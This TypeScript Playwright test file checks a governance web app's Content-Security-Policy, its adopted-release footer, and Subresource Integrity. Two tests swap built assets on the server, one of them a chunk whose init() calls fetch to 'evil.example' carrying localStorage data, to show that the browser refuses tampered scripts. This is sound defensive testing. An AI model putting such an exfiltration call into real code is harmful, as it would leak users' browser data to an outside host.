// The web app under its Content-Security-Policy and Subresource Integrity, in Chromium: it
// loads and works (its views, its WebAssembly ballot cryptography) with no policy violation
// reported; and an asset swapped on the server after the build — the attack SRI stops — is
// refused by the browser, whether it is the main script or a chunk loaded later.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { MODEL_STATUTE } from '../../src/constitution/model-statute.js';
import { TestOrg } from '../e2e/client.js';
import { openBrowserWorld, type BrowserWorld } from './harness.js';

let world: BrowserWorld;
let org: TestOrg;

before(async () => {
  world = await openBrowserWorld({ name: 'release' });
  org = await TestOrg.found(world.server.url, { constitution: MODEL_STATUTE, seats: { 'central-committee': ['ana', 'ben', 'cai'] } });
});

after(async () => world?.close());

/** A page that records what the console and the policy report: violations are also sent as DOM events. */
async function watchedPage(): Promise<{ page: Page; console: string[]; violations: () => Promise<string[]> }> {
  const page = await world.newPage();
  const messages: string[] = [];
  page.on('console', (m) => void messages.push(`${m.type()}: ${m.text()}`));
  page.on('pageerror', (e) => void messages.push(`pageerror: ${e.message}`));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (globalThis as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => void seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`));
  });
  return { page, console: messages, violations: () => page.evaluate(() => (globalThis as unknown as { __violations: string[] }).__violations) };
}

const chunk = (prefix: string) => readdirSync(join(world.webDir, 'assets')).find((f) => f.startsWith(prefix) && f.endsWith('.js'))!;

test('the app loads and works under its CSP: views render, the ballot cryptography compiles its WebAssembly, nothing refused (zod told not to probe for eval)', { timeout: 120_000 }, async () => {
  const { page, console: messages, violations } = await watchedPage();
  const response = await page.goto(`${world.server.url}/keys`);
  assert.match(response?.headers()['content-security-policy'] ?? '', /frame-ancestors 'none'/);
  await page.getByRole('heading', { name: 'Enroll this device' }).waitFor();
  // The record read from the API and drawn by the app: the founding is there.
  await page.goto(`${world.server.url}/`);
  await page.getByText('Test Union').first().waitFor();
  // The lazy ballot chunk, as the Delegate view loads it: checked by the import map, then libsodium's WebAssembly.
  const loaded = await page.evaluate(async (url) => {
    const m = (await import(url)) as { init: () => Promise<void>; encrypt: unknown };
    await m.init();
    return typeof m.encrypt;
  }, `/assets/${chunk('secret-crypto')}`);
  assert.equal(loaded, 'function');
  // Nothing refused: zod is configured jitless (web/src/zod-config.ts), so it never tries eval.
  const refused = await violations();
  assert.deepEqual(refused, []);
  assert.deepEqual(messages.filter((m) => /Content Security Policy|integrity|Refused/i.test(m)), []);
});

test('the footer says whether the app is a build the organization adopted (software.release), and how to check it for real', { timeout: 60_000 }, async () => {
  const page = await world.newPage();
  await page.goto(`${world.server.url}/`);
  const line = page.locator('footer [data-release]');
  await line.waitFor();
  assert.equal(await line.getAttribute('data-release'), 'none-adopted');
  assert.match((await line.textContent()) ?? '', /No release of this app has been adopted yet\..*collegium check-app/);
  // An adoption of another build (say, last year's) does not vouch for this one.
  const other = await org.ok('ana', 'collective.propose', { act: { type: 'software.release', body: { version: '0.9.0', release: createHash('sha256').update('an older build').digest('hex') } } });
  await org.ok('ben', 'collective.cosign', { pending: `c${other.index}` });
  await page.reload();
  await line.waitFor();
  assert.equal(await line.getAttribute('data-release'), 'not-adopted');
  // The Central Committee adopts this build: the SHA-256 of its release.json.
  const release = createHash('sha256').update(readFileSync(join(world.webDir, 'release.json'))).digest('hex');
  const proposed = await org.ok('ana', 'collective.propose', { act: { type: 'software.release', body: { version: '1.0.0', release } } });
  const done = await org.ok('cai', 'collective.cosign', { pending: `c${proposed.index}` });
  await page.reload();
  await page.locator('footer [data-release="adopted"]').waitFor();
  assert.match((await line.textContent()) ?? '', new RegExp(`App release 1\\.0\\.0, adopted at entry ${done.index}`));
});

test('a lazy chunk swapped on the server after the build is refused by the browser (its integrity does not match)', { timeout: 60_000 }, async () => {
  const name = chunk('secret-crypto');
  writeFileSync(join(world.webDir, 'assets', name), 'export async function init() { fetch("https://evil.example/?k=" + localStorage.length); }\nexport const encrypt = () => 0;\n');
  const { page, console: messages } = await watchedPage();
  await page.goto(`${world.server.url}/keys`);
  await page.getByRole('heading', { name: 'Enroll this device' }).waitFor();
  const outcome = await page.evaluate(async (url) => {
    try {
      await import(url);
      return 'loaded';
    } catch (error) {
      return `refused: ${(error as Error).message}`;
    }
  }, `/assets/${name}`);
  assert.match(outcome, /^refused/);
  assert.ok(messages.some((m) => /integrity/i.test(m)), messages.join('\n'));
});

test('a main script swapped on the server after the build is refused: the app does not run', { timeout: 60_000 }, async () => {
  const name = chunk('index-');
  writeFileSync(join(world.webDir, 'assets', name), 'document.getElementById("app").textContent = "Vote here for the chair!";\n');
  const { page, console: messages } = await watchedPage();
  await page.goto(`${world.server.url}/`);
  await page.waitForLoadState('load');
  await page.waitForTimeout(500);
  assert.equal(await page.locator('#app').textContent(), '');
  assert.ok(messages.some((m) => /integrity/i.test(m)), messages.join('\n'));
});
